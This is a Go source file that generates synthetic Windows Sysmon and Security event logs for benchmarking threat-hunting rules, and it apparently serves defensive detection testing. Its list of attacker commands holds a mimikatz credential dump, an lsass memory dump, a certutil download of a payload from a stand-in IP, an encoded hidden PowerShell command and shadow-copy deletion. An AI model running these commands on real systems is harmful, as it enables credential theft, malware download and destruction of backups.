package hunt

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"time"
)

// WriteSyntheticEvents writes n Winlogbeat-style JSON lines of Windows
// events (Sysmon 1, 3, 7, 11, 13 and Security 4624, 4688) for benchmarks and
// demos. The mix is mostly ordinary activity with about one event in a
// thousand taken from attacker tradecraft, so rules both match and miss. The
// same seed always gives the same events.
func WriteSyntheticEvents(w io.Writer, n int, seed uint64) error {
	r := rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15))
	bw := bufio.NewWriterSize(w, 1<<16)
	enc := json.NewEncoder(bw)
	enc.SetEscapeHTML(false)
	start := time.Date(2026, 3, 1, 8, 0, 0, 0, time.UTC)
	pick := func(a []string) string { return a[r.IntN(len(a))] }
	for i := 0; i < n; i++ {
		ts := start.Add(time.Duration(i) * 37 * time.Millisecond)
		host := fmt.Sprintf("ws%03d.corp.example", r.IntN(200))
		user := "CORP\\" + pick(synUsers)
		bad := r.IntN(1000) == 0
		var channel string
		var eid int
		data := map[string]any{}
		img, cmd := pick(synImages), ""
		if bad {
			k := r.IntN(len(synBadCmds))
			img, cmd = synBadImages[k], synBadCmds[k]
		} else {
			cmd = `"` + img + `" ` + pick(synArgs)
			if baseName(img) == "svchost.exe" {
				cmd = img + " -k netsvcs -p -s Schedule"
			}
		}
		switch x := r.IntN(100); {
		case x < 40:
			channel, eid = "Microsoft-Windows-Sysmon/Operational", 1
			data["Image"], data["CommandLine"], data["User"] = img, cmd, user
			parent := `C:\Windows\explorer.exe`
			switch baseName(img) {
			case "svchost.exe", "SearchIndexer.exe":
				parent = `C:\Windows\System32\services.exe`
			case "taskhostw.exe", "RuntimeBroker.exe":
				parent = `C:\Windows\System32\svchost.exe`
			}
			data["ParentImage"], data["ParentCommandLine"] = parent, parent
			data["OriginalFileName"] = baseName(img)
			data["IntegrityLevel"], data["ProcessId"] = pick([]string{"Medium", "High", "System"}), 1000+r.IntN(60000)
			data["Hashes"] = fmt.Sprintf("SHA256=%064X", r.Uint64())
			data["CurrentDirectory"] = `C:\Users\` + pick(synUsers) + `\`
		case x < 55:
			channel, eid = "Microsoft-Windows-Sysmon/Operational", 3
			data["Image"], data["User"], data["Protocol"] = pick(synNetImages), user, "tcp"
			data["DestinationIp"] = fmt.Sprintf("%d.%d.%d.%d", 10+r.IntN(200), r.IntN(256), r.IntN(256), 1+r.IntN(254))
			data["DestinationPort"] = pick([]string{"443", "80", "443", "443"})
			data["DestinationHostname"] = pick(synHosts)
			data["Initiated"] = "true"
		case x < 70:
			channel, eid = "Microsoft-Windows-Sysmon/Operational", 7
			data["Image"], data["ImageLoaded"] = img, `C:\Windows\System32\`+pick(synDLLs)
			data["Signed"], data["Signature"] = "true", "Microsoft Windows"
		case x < 80:
			channel, eid = "Microsoft-Windows-Sysmon/Operational", 11
			data["Image"] = img
			data["TargetFilename"] = `C:\Users\` + pick(synUsers) + `\AppData\Local\Temp\` + fmt.Sprintf("tmp%04X.%s", r.IntN(65536), pick([]string{"tmp", "log", "dat", "txt"}))
		case x < 90:
			channel, eid = "Microsoft-Windows-Sysmon/Operational", 13
			data["Image"], data["EventType"] = img, "SetValue"
			data["TargetObject"] = `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\` + pick([]string{"Explorer\\RecentDocs\\.txt", "WindowsUpdate\\Auto Update\\LastRun", "Explorer\\Shell Folders\\Cache"})
			data["Details"] = fmt.Sprintf("DWORD (0x%08x)", r.IntN(4))
		case x < 95:
			channel, eid = "Security", 4624
			data["TargetUserName"], data["TargetDomainName"] = pick(synUsers), "CORP"
			data["LogonType"], data["IpAddress"] = pick([]string{"2", "3", "10"}), fmt.Sprintf("10.1.%d.%d", r.IntN(256), r.IntN(256))
			data["AuthenticationPackageName"] = pick([]string{"Kerberos", "NTLM", "Negotiate"})
		default:
			channel, eid = "Security", 4688
			data["NewProcessName"], data["CommandLine"] = img, cmd
			data["ParentProcessName"], data["SubjectUserName"] = `C:\Windows\System32\services.exe`, pick(synUsers)
		}
		ev := map[string]any{
			"@timestamp": ts.Format(time.RFC3339Nano),
			"winlog": map[string]any{
				"channel": channel, "event_id": eid, "computer_name": host, "record_id": i + 1,
				"provider_name": map[bool]string{true: "Microsoft-Windows-Sysmon", false: "Microsoft-Windows-Security-Auditing"}[channel != "Security"],
				"event_data":    data,
			},
		}
		if err := enc.Encode(ev); err != nil {
			return err
		}
	}
	return bw.Flush()
}

func baseName(p string) string {
	for i := len(p) - 1; i >= 0; i-- {
		if p[i] == '\\' {
			return p[i+1:]
		}
	}
	return p
}

var (
	synUsers     = []string{"alice", "bob", "carol", "dave", "erin", "frank", "svc_backup", "svc_sql", "SYSTEM"}
	synImages    = []string{`C:\Windows\System32\svchost.exe`, `C:\Program Files\Google\Chrome\Application\chrome.exe`, `C:\Windows\explorer.exe`, `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, `C:\Windows\System32\taskhostw.exe`, `C:\Program Files\Microsoft VS Code\Code.exe`, `C:\Windows\System32\SearchIndexer.exe`, `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, `C:\Windows\System32\RuntimeBroker.exe`}
	synArgs      = []string{"--type=renderer --field-trial-handle=1234", "/prefetch:1", "--no-startup-window", "", "-Embedding"}
	synNetImages = []string{`C:\Program Files\Google\Chrome\Application\chrome.exe`, `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, `C:\Windows\System32\svchost.exe`}
	synHosts     = []string{"www.google.com", "outlook.office365.com", "update.microsoft.com", "github.com", "cdn.example.net"}
	synDLLs      = []string{"kernel32.dll", "ntdll.dll", "user32.dll", "advapi32.dll", "crypt32.dll", "wininet.dll", "ole32.dll"}

	synBadImages = []string{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `C:\Users\Public\mimikatz.exe`, `C:\Windows\System32\whoami.exe`, `C:\Windows\System32\rundll32.exe`, `C:\Windows\System32\certutil.exe`, `C:\Windows\System32\vssadmin.exe`}
	synBadCmds   = []string{
		`powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`,
		`mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit`,
		`whoami /all`,
		`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\lsass.dmp full`,
		`certutil.exe -urlcache -split -f http://203.0.113.7/payload.exe C:\Users\Public\p.exe`,
		`vssadmin.exe delete shadows /all /quiet`,
	}
)
